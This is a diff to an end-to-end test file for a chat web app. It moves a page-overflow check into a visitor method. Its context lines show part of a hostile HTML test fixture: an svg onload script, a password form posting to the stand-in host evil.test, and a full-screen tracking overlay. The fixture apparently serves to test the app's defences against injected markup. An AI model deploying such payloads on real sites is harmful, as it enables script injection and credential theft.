@@ -69,7 +69,7 @@ if (ready) {
     /** What every screen owes everybody. */
     async function isSound(visitor: Visitor, screen: string): Promise<void> {
       expect.soft(await visitor.violations(), screen).toEqual([]);
-      expect.soft(await overflow(visitor.page), `${screen}: wider than the window`).toEqual([]);
+      expect.soft(await visitor.overflow(), `${screen}: wider than the window`).toEqual([]);
     }
 
     const conversationOf = async (name: string): Promise<string> =>
@@ -263,7 +263,7 @@ if (ready) {
       await visitor.button('Send').tap();
       await visitor.message('from a phone').nth(1).waitFor();
       await eventually(() => within(page, visitor.message('from a phone').nth(1)));
-      expect(await overflow(page)).toEqual([]);
+      expect(await visitor.overflow()).toEqual([]);
       await visitor
         .message('from a phone')
         .first()
@@ -380,17 +380,6 @@ Content-Type: text/html; charset=utf-8
 <svg onload="pwned()"></svg><form action="http://evil.test"><input name="password"></form>
 <div style="position:fixed;inset:0;background:url(http://evil.test/track)" onclick="pwned()">all over</div></body></html>
 `;
-
-/** What sticks out of the window to the right, or makes the page scroll sideways. */
-const overflow = (page: Page): Promise<string[]> =>
-  page.evaluate(() => {
-    const root = document.documentElement;
-    if (root.scrollWidth <= innerWidth && document.body.scrollWidth <= innerWidth) return [];
-    return [...document.querySelectorAll('body *')]
-      .filter((one) => one.getBoundingClientRect().right > innerWidth + 1)
-      .map((one) => `${one.tagName}.${one.className}`)
-      .slice(0, 5);
-  });
 
 async function within(page: Page, one: { boundingBox(): Promise<Box | null> }): Promise<boolean> {
   const [box, size] = [await one.boundingBox(), page.viewportSize()];
